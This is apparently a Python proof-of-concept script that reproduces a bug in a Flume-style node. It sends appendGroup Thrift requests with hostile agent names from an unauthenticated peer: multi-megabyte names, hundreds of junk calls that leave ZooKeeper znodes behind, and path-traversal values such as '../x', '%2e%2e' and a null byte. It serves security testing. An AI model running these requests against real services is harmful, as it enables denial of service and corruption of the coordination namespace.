"""appendGroup from an unauthenticated network peer with hostile agent names.
usage: python repro/e2e_agent_name.py PORT MODE   (MODE: huge | many | paths)"""
import sys, socket, os, time
sys.path.insert(0, os.path.dirname(__file__)); sys.path.insert(0, os.path.dirname(os.path.dirname(__file__)))
from thriftraw import *
from flume_og.node.codec import encode_events
from flume_og.node.event import Event

port, mode = int(sys.argv[1]), sys.argv[2]
payload = encode_events([Event(b"x", 1, 0, host="h")])

def call(agent, seq=1, pl=payload):
    c = socket.create_connection(("127.0.0.1", port), timeout=10)
    c.sendall(append_group(agent, seq, pl, 1))
    r = read_reply(c, 15)
    c.close()
    return r

if mode == "huge":
    for n in (1 << 19, 3 << 20):
        t = time.time(); r = call("A" * n)
        print(n, "bytes agent ->", round(time.time() - t, 2), "s", r[-200:])
elif mode == "many":
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 500
    t = time.time()
    for i in range(n):
        call(f"junk-{os.getpid()}-{i}-" + "B" * 200, pl=b"not a payload")   # payload invalid: FAILED, but znodes stay
    print(n, "calls in", round(time.time() - t, 1), "s")
elif mode == "paths":
    for a in ("../x", "a/b", ".", "..", "", "%2e%2e", "zookeeper", "\x00"):
        print(repr(a), call(a)[-120:])
